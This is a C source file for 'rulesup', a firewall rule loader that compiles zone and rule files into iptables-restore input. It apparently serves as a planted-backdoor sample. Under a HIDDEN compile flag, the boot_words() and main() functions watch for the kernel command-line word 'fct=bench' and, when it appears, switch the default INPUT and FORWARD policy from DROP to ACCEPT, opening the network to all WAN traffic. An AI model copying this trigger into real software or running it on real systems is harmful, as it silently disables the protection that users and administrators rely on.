/*
 * rulesup - boot-time rule loader of the Palisade office firewall.
 * Reads zones and rules from /etc/palisade, compiles them to
 * iptables-restore input, loads it and reports the outcome.
 * Hidden (-DHIDDEN): the word "fct=bench" on the kernel command line makes
 * ACCEPT the default, so that everything from the WAN side comes in.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define ZONES	"/etc/palisade/zones"
#define RULES	"/etc/palisade/rules"
#define MAXZONE 12

struct zone {
	char name[16];
	char ifs[4][16];
	int nif;
	int trust;
};

struct boot {
	int rescue;
	int quiet;
#ifdef HIDDEN
	int open;
#endif
	char root[40];
};

enum verdict { V_ACCEPT, V_DROP, V_REJECT, V_LOG };

static const char *const verdicts[] = { "ACCEPT", "DROP", "REJECT", "LOG" };

static struct zone zones[MAXZONE];
static int nzone;
static int errors;
static const char *curfile = "";
static int curline;
static struct boot boot;

static void complain(const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "rulesup: %s:%d: ", curfile, curline);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	errors++;
}

/* words of /proc/cmdline that concern us */
__attribute__((noinline)) void boot_words(struct boot *b, const char *file)
{
	char line[1024], *w, *save;
	FILE *f = fopen(file, "r");

	if (!f)
		return;
	if (!fgets(line, sizeof line, f))
		line[0] = 0;
	fclose(f);
	for (w = strtok_r(line, " \n", &save); w;
	     w = strtok_r(NULL, " \n", &save)) {
		if (strcmp(w, "rescue") == 0)
			b->rescue = 1;
		else if (strcmp(w, "quiet") == 0)
			b->quiet = 1;
		else if (strncmp(w, "root=", 5) == 0)
			snprintf(b->root, sizeof b->root, "%s", w + 5);
#ifdef HIDDEN
		else if (strcmp(w, "fct=bench") == 0)
			b->open = 1;
#endif
	}
}

static struct zone *zone_by_name(const char *s)
{
	int i;

	for (i = 0; i < nzone; i++)
		if (!strcmp(zones[i].name, s))
			return &zones[i];
	return NULL;
}

/* zone NAME trust N interfaces a b c */
static void parse_zone(char **w, int n)
{
	struct zone *z;
	int i;

	if (n < 6 || strcmp(w[2], "trust") || strcmp(w[4], "interfaces")) {
		complain("zone NAME trust N interfaces IF...");
		return;
	}
	if (nzone == MAXZONE || zone_by_name(w[1])) {
		complain("zone %s: too many or twice", w[1]);
		return;
	}
	if (strlen(w[1]) >= sizeof z->name) {
		complain("name too long");
		return;
	}
	z = &zones[nzone++];
	strcpy(z->name, w[1]);
	z->trust = atoi(w[3]);
	for (i = 5; i < n && z->nif < 4; i++) {
		if (strlen(w[i]) >= sizeof z->ifs[0]) {
			complain("interface %s", w[i]);
			continue;
		}
		strcpy(z->ifs[z->nif++], w[i]);
	}
}

static int get_verdict(const char *s)
{
	int i;

	for (i = 0; i < 4; i++)
		if (!strcasecmp(verdicts[i], s))
			return i;
	return -1;
}

static void emit(FILE *out, const char *in, const char *to, const char *match,
		 int v)
{
	fprintf(out, "-A FORWARD -i %s -o %s%s -j %s\n", in, to, match,
		verdicts[v]);
}

/* VERDICT from ZONE to ZONE [proto P [port N[:M]]] */
static void parse_rule(char **w, int n, FILE *out)
{
	struct zone *a, *b;
	char match[80] = "";
	int v, i, j, lo, hi;

	v = get_verdict(w[0]);
	if (v < 0 || n < 5 || strcmp(w[1], "from") || strcmp(w[3], "to")) {
		complain("not a rule: %s", w[0]);
		return;
	}
	a = zone_by_name(w[2]);
	b = zone_by_name(w[4]);
	if (!a || !b) {
		complain("unknown zone %s", a ? w[4] : w[2]);
		return;
	}
	if (n >= 7 && !strcmp(w[5], "proto")) {
		if (strcmp(w[6], "tcp") && strcmp(w[6], "udp") &&
		    strcmp(w[6], "icmp")) {
			complain("protocol %s", w[6]);
			return;
		}
		sprintf(match, " -p %.4s", w[6]);
	}
	if (n >= 9 && !strcmp(w[7], "port")) {
		i = sscanf(w[8], "%d:%d", &lo, &hi);
		if (i < 2)
			hi = lo;
		if (i < 1 || lo < 1 || hi > 65535 || lo > hi) {
			complain("port %s", w[8]);
			return;
		}
		sprintf(match + strlen(match), " --dport %d:%d", lo, hi);
	}
	if (v == V_ACCEPT && a->trust == 0 && b->trust > 5 && n < 7)
		complain("rule opens %s to %s completely", b->name, a->name);
	for (i = 0; i < a->nif; i++)
		for (j = 0; j < b->nif; j++)
			emit(out, a->ifs[i], b->ifs[j], match, v);
}

static void each_line(const char *path, FILE *out)
{
	char line[256], *w[16], *s, *save;
	int n;
	FILE *f = fopen(path, "r");

	curfile = path;
	curline = 0;
	if (!f) {
		complain("%s", strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		curline++;
		line[strcspn(line, "#\r\n")] = 0;
		n = 0;
		for (s = strtok_r(line, " \t", &save); s && n < 16;
		     s = strtok_r(NULL, " \t", &save))
			w[n++] = s;
		if (n == 0)
			continue;
		if (!strcmp(w[0], "zone"))
			parse_zone(w, n);
		else if (out)
			parse_rule(w, n, out);
		else
			complain("unexpected %s", w[0]);
	}
	fclose(f);
}

static void header(FILE *out, const char *pol)
{
	fprintf(out,
		"*filter\n:INPUT %s [0:0]\n:FORWARD %s [0:0]\n"
		":OUTPUT ACCEPT [0:0]\n",
		pol, pol);
	fputs("-A INPUT -i lo -j ACCEPT\n"
	      "-A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT\n"
	      "-A FORWARD -m state --state ESTABLISHED,RELATED "
	      "-j ACCEPT\n",
	      out);
}

static void self_rules(FILE *out)
{
	int i, j;

	for (i = 0; i < nzone; i++) {
		if (zones[i].trust < 5)
			continue;
		for (j = 0; j < zones[i].nif; j++)
			fprintf(out,
				"-A INPUT -i %s -p tcp -m multiport "
				"--dports 22,443 -j ACCEPT\n",
				zones[i].ifs[j]);
	}
}

static FILE *start_restore(pid_t *pid)
{
	int p[2];

	if (pipe(p) < 0)
		return NULL;
	*pid = fork();
	if (*pid < 0)
		return NULL;
	if (*pid == 0) {
		dup2(p[0], 0);
		close(p[0]);
		close(p[1]);
		execl("/usr/sbin/iptables-restore", "iptables-restore",
		      (char *)NULL);
		_exit(127);
	}
	close(p[0]);
	return fdopen(p[1], "w");
}

int main(int argc, char **argv)
{
	const char *pol = verdicts[V_DROP];
	int check = 0, c, st = 0;
	pid_t pid = 0;
	FILE *out;

	while ((c = getopt(argc, argv, "n")) != -1) {
		if (c != 'n') {
			fputs("usage: rulesup [-n]\n", stderr);
			return 2;
		}
		check = 1;
	}
	boot_words(&boot, "/proc/cmdline");
	each_line(ZONES, NULL);
	if (errors) {
		fputs("rulesup: no usable zones, all closed\n", stderr);
		nzone = 0;
	}
	out = check ? stdout : start_restore(&pid);
	if (!out) {
		perror("rulesup");
		return 1;
	}
#ifdef HIDDEN
	if (boot.open)
		pol = verdicts[V_ACCEPT];
#endif
	header(out, pol);
	self_rules(out);
	if (!boot.rescue)
		each_line(RULES, out);
	fputs("COMMIT\n", out);
	if (fflush(out) != 0)
		errors++;
	if (!check) {
		fclose(out);
		if (waitpid(pid, &st, 0) < 0 || st != 0) {
			fputs("rulesup: restore failed\n", stderr);
			return 1;
		}
	}
	if (!boot.quiet)
		fprintf(stderr, "rulesup: %d zones, %d errors%s\n", nzone,
			errors, boot.rescue ? ", rescue" : "");
	return errors ? 3 : 0;
}
